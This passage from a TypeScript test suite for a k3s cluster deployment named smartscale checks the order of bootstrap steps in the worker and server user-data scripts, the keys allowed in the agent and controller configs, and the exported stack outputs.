        it("worker: heartbeat, verified downloads, token, run unit, then join", () => {
            const order = [
                "launch_action heartbeat ||",
                'fetch_verified "$AGENT_KEY"',
                "install_k3s agent INSTALL_K3S_SKIP_START=true",
                'secret-wait --id "$AGENT_TOKEN_SECRET_ID"',
                "systemctl start --no-block smartscale-agent.service",
                "/usr/local/bin/smartscale-agent --config /etc/smartscale/agent.yaml join",
            ].map((s) => workerUserData.indexOf(s));
            assert.ok(order.every((i) => i > 0), `missing step: ${order}`);
            assert.deepStrictEqual([...order].sort((a, b) => a - b), order, "steps out of order");
            assert.match(workerUserData, /ExecStart=\/usr\/local\/bin\/smartscale-agent --config \/etc\/smartscale\/agent.yaml run/);
        });

        it("server: tokens, units, sync, k3s, agent token, Grafana secret, controller, sync timer", () => {
            const order = [
                'saws secret-get --id "$SERVER_TOKEN_SECRET_ID"',
                "ExecStart=/usr/local/bin/smartscale-controller --config /etc/smartscale/controller.yaml",
                "systemctl daemon-reload",
                "saws sync --release-param",
                "install_k3s server",
                'saws secret-put --id "$AGENT_TOKEN_SECRET_ID"',
                "create secret generic grafana-admin",
                "systemctl enable --now smartscale-controller.service",
                "systemctl enable --now smartscale-sync.timer",
            ].map((s) => serverUserData.indexOf(s));
            assert.ok(order.every((i) => i > 0), `missing step: ${order}`);
            assert.deepStrictEqual([...order].sort((a, b) => a - b), order, "steps out of order");
        });

        it("writes agent and controller configs with only the keys of docs/interfaces.md", () => {
            const m = /cat >"?[^\n]*agent.yaml"? <<'SMARTSCALE_EOF'\n([\s\S]*?)\nSMARTSCALE_EOF/.exec(workerUserData);
            assert.ok(m, "no heredoc for agent.yaml");
            const agentKeys = yamlKeyPaths(m[1]);
            const controllerKeys = yamlKeyPaths(param(recorded, "/smartscale/prod/controller/config")!.inputs.value);
            const docAgent = documentedAgentKeys();
            const docController = documentedControllerKeys();
            for (const k of agentKeys) assert.ok(docAgent.has(k), `agent key ${k} is not in docs/interfaces.md`);
            for (const k of controllerKeys) assert.ok(docController.has(k), `controller key ${k} is not in docs/interfaces.md`);
            for (const k of ["ssm_path", "token_secret_id"]) assert.ok(agentKeys.has(k), `required agent key ${k}`);
            for (const k of ["cluster_id", "prometheus.url", "state.table", "node_groups.asg_name"]) assert.ok(controllerKeys.has(k), `required controller key ${k}`);
            assert.match(m[1], /\njoin_timeout: 10m\n/);
        });
    });

    describe("outputs", () => {
        it("exposes the server's addresses, the Grafana tunnel, asgName and tableName", () => {
            assert.strictEqual(outputs.serverPublicIp, MOCK_SERVER_PUBLIC_IP);
            assert.strictEqual(outputs.serverPrivateIp, "10.20.0.10");
            assert.strictEqual(outputs.asgName, "smartscale-prod-workers");
            assert.strictEqual(outputs.tableName, "smartscale-prod-state");
        });

        it("index.ts exports them as stack outputs", async () => {
            const { prepare, valueOf } = await import("./harness");
            await prepare(baseConfig(bins), "index-check");
            const mod = await import("../index");
            const keys = Object.keys(mod).sort();
            for (const k of ["serverPublicIp", "serverPrivateIp", "grafanaTunnel", "asgName", "tableName"]) assert.ok(keys.includes(k), k);
            assert.strictEqual(await valueOf((mod as any).asgName), "smartscale-index-check-workers");
        });
    });
});
